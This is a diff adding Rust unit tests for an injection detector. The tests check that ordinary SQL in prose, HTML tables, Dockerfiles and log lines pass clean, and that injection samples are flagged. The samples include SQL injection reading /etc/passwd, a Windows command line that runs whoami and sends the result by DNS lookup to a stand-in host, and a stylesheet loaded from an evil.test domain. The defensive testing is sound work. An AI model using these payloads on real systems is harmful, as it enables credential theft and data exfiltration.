@@ -900,3 +900,73 @@ fn downloads_written_out_and_payloads_staged() {
         assert!(d.scan_as(t.as_bytes(), InputKind::Text).threat, "{t:?}");
     }
 }
+
+#[test]
+fn sql_written_out_in_prose_is_not_an_injection() {
+    for text in [
+        "My answer was SELECT name FROM staff WHERE pay > (SELECT AVG(pay) FROM staff); is a window function faster?",
+        "We rewrote it so NOT EXISTS (SELECT 1 FROM refunds r WHERE r.order_id = o.id) filters first, and the plan got simpler.",
+        "Tip: UPDATE stock SET qty = qty - 1 WHERE sku IN (SELECT sku FROM basket WHERE cart_id = 7); runs in one round trip.",
+    ] {
+        assert_clean_of(text, Category::Sqli);
+    }
+    // What an injection adds keeps its findings in the same shapes.
+    for text in [
+        "x' AND EXISTS (SELECT 1 FROM users WHERE name='admin')--",
+        "5 OR pay > (SELECT AVG(pay) FROM staff)",
+        "SELECT name FROM staff WHERE id = (SELECT LOAD_FILE('/etc/passwd') FROM dual);",
+    ] {
+        assert!(detector().scan(text.as_bytes()).threat, "{text}");
+    }
+    // As a parameter, a statement written out whole is still reported.
+    let body = r#"{"filter": "NOT EXISTS (SELECT 1 FROM refunds r WHERE r.order_id = o.id)"}"#;
+    assert!(detector().scan(body.as_bytes()).threat);
+}
+
+#[test]
+fn markup_attributes_and_database_errors_are_not_sql() {
+    for text in [
+        r#"<table role="presentation" width="100%" cellpadding="0" border="0"><tr><td align="center">Hi</td></tr></table>"#,
+        r#"<img src="/logo.png" width="50%" alt="Logo" loading=lazy>"#,
+        "Support ticket: the export fails with 'You have an error in your SQL syntax; check the manual that corresponds to your MariaDB server version for the right syntax to use near 'GROUP BY region' at line 2'.",
+    ] {
+        assert_clean_of(text, Category::Sqli);
+    }
+    assert!(detector().scan(br#"<a title="x" or "1"="1">"#).threat);
+}
+
+#[test]
+fn build_files_and_batch_questions_are_not_commands() {
+    for text in [
+        "FROM node:22-alpine\nWORKDIR /srv\nCOPY . .\nEXPOSE 3000\nCMD [\"node\", \"--enable-source-maps\", \"dist/main.js\"]",
+        "ENTRYPOINT [\"/usr/bin/tini\", \"--\"]",
+        "How come for %%x in (*.log) do echo %%x lists the files in a script but fails at the prompt?",
+        "Saw this in the logs: configuration file /etc/nginx/nginx.conf test is successful; reload went fine.",
+    ] {
+        let v = detector().scan(text.as_bytes());
+        assert!(!v.threat, "{text}: {:?}", v.findings);
+    }
+    // As a parameter, a loop is a command line; running a command in its
+    // set or chaining one after it is an injection anywhere.
+    let v = detector().scan_as(b"q=for %i in (a b) do echo %i", InputKind::Query);
+    assert!(find(&v, "cmdi-command-line").is_some(), "{:?}", v.findings);
+    for text in [
+        "for /f %a in ('whoami') do nslookup %a.example.test",
+        "for %i in (1) do echo %i & net user",
+    ] {
+        assert!(detector().scan(text.as_bytes()).threat, "{text}");
+    }
+}
+
+#[test]
+fn jsx_links_to_own_pages_load_nothing() {
+    assert_clean_of(
+        "<Link href={`/docs/${page.id}`}>Next</Link> renders an <a> for me already",
+        Category::Xss,
+    );
+    assert!(
+        detector()
+            .scan(b"<link rel=stylesheet href={`//cdn.evil.test/${x}`}>")
+            .threat
+    );
+}
